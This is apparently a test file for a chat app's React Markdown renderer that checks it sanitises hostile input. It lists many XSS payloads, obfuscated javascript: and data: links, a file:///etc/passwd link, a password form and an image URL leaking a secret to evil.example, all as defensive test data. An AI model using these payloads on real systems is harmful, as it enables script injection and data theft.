import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import Markdown from './Markdown.tsx';
import { isLink, trueHost } from './true-host.ts';

const origin = 'https://parley.example';
const markup = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

beforeAll(() => void vi.stubGlobal('window', { location: { origin } }));
afterAll(() => void vi.unstubAllGlobals());

test('an image from another site is never loaded: it is a link that names the site', () => {
  for (const text of [
    '![chart](https://evil.example/p.png?d=secret)',
    '![](https://evil.example/p.png)',
    '![chart][1]\n\n[1]: https://evil.example/p.png',
    '[![x](https://evil.example/a.png)](https://evil.example/b)',
    '<img src="https://evil.example/p.png">',
    '<picture><source srcset="https://evil.example/p.png"></picture>',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  ]) {
    expect(markup(text), text).not.toMatch(/<(?:img|picture|source|video|audio|svg|link|style)\b/);
  }
  expect(markup('![chart](https://evil.example/p.png?d=secret)')).toContain('chart (evil.example)');
});

test('text never becomes scripts, embedded content or forms', () => {
  for (const text of [
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<script>alert(1)</script>',
    '<a href="https://evil.example" onclick="x()">x</a>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<object data="https://evil.example"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
  ]) {
    // An address in it is a link like any other, with the address as its text.
    expect(
      markup(text).replaceAll(/<a href="(https:[^"]*?)\/?" [^>]*>\1<\/a>/g, ''),
      text,
    ).not.toMatch(/<(?:iframe|form|script|object|embed|meta|base|style|input|a)\b/);
  }
});

test('a link without an allowed scheme is shown as text', () => {
  for (const text of [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,<script>1</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://parley.example/1)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
  ]) {
    expect(markup(text), text).not.toMatch(/<a\b|href=/);
  }
  expect(markup('[the quote](https://supplier.example/q)')).toContain(
    'href="https://supplier.example/q"',
  );
  expect(isLink('mailto:mira@harbour.example', origin)).toBe(true);
  expect(isLink('javascript:alert(1)', origin)).toBe(false);
});

test('a link text that names another site is followed by the real one', () => {
  expect(markup('[https://bank.example/login](https://evil.example/x)')).toContain(
    'https://bank.example/login (evil.example)',
  );
  expect(markup('[bank.example](https://evil.example/x)')).toContain('bank.example (evil.example)');
  expect(markup('[bank.example](https://www.bank.example/x)')).not.toContain('(www.bank.example)');
  expect(trueHost('https://xn--bnk-8la.example', 'bänk.example')).toBe('xn--bnk-8la.example');
  expect(trueHost('https://evil.example/bank.example', 'bank.example')).toBe('evil.example');
  expect(trueHost('https://bank.example@evil.example/', 'https://bank.example')).toBe(
    'evil.example',
  );
  expect(trueHost('https://supplier.example/q', 'the quote')).toBeNull();
  expect(trueHost('https://bank.example/a', 'https://bank.example/a.')).toBeNull();
});

test('a scheme disguised by character references, case or spaces is no link either', () => {
  for (const text of [
    '[x](java&#115;cript:alert(1))',
    '[x](&#x6a;avascript&colon;alert(1))',
    '[x](java&Tab;script:alert(1))',
    '[x](&#1;javascript:alert(1))',
    '[x]( javascript:alert(1))',
    '[x]\n\n[x]: JAVASCRIPT:alert(1)',
    '[x](data&colon;text/html;base64,PHNjcmlwdD4=)',
    '<data:text/html,x>',
    '> - [x](javascript:alert(1))\n>   1. **[y](vbscript:z)**',
    '| [x](javascript:alert(1)) |\n|---|\n| ![y](data:image/svg+xml,<svg/onload=x>) |',
  ]) {
    expect(markup(text), text).not.toMatch(/<a\b|href=|src=/);
  }
});

test('HTML is shown as text everywhere and never becomes an attribute', () => {
  for (const text of [
    '# <img src=x onerror=alert(1)>',
    '- <svg onload=alert(1)>',
    '> <details open ontoggle=alert(1)>',
    '| <script>x</script> |\n|---|\n| <style>*{}</style> |',
    '**<b onclick=x>**',
    '[<img src=x>](https://a.example)',
    '![" onerror="alert(1)](https://a.example/x.png)',
    '[x](https://a.example/"onmouseover="alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    '<div>\n\n<script>alert(1)</script>\n\n</div>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ]) {
    const made = markup(text);
    expect(made, text).not.toMatch(/<(?:img|svg onload|details|script|style|b)\b/);
    expect(made.replace(/>[^<]*</g, '><'), text).not.toMatch(/ on\w+=/);
  }
});

test('a link never contains another link that would hide its target', () => {
  for (const text of [
    '[bank [here](https://a.example)](https://b.example)',
    '[**bold [x](https://a.example)**](https://b.example)',
    '[![x](https://a.example/p.png)](https://b.example)',
    '[https://a.example](https://b.example)',
  ]) {
    expect(markup(text), text).not.toMatch(/<a\b[^>]*>(?:(?!<\/a>).)*<a\b/);
    expect(markup(text), text).toContain('<a');
  }
});

test('a text made only of Markdown signs is shown and does not block the page', () => {
  for (const sign of ['>', '- ', '1. ', '*a ', '_a ', '~~a ', '**a *b ', '[', '![', '`a ']) {
    const text = sign.repeat(40_000 / sign.length);
    expect(markup(`${text}x`), sign).toContain('x</p>');
  }
});
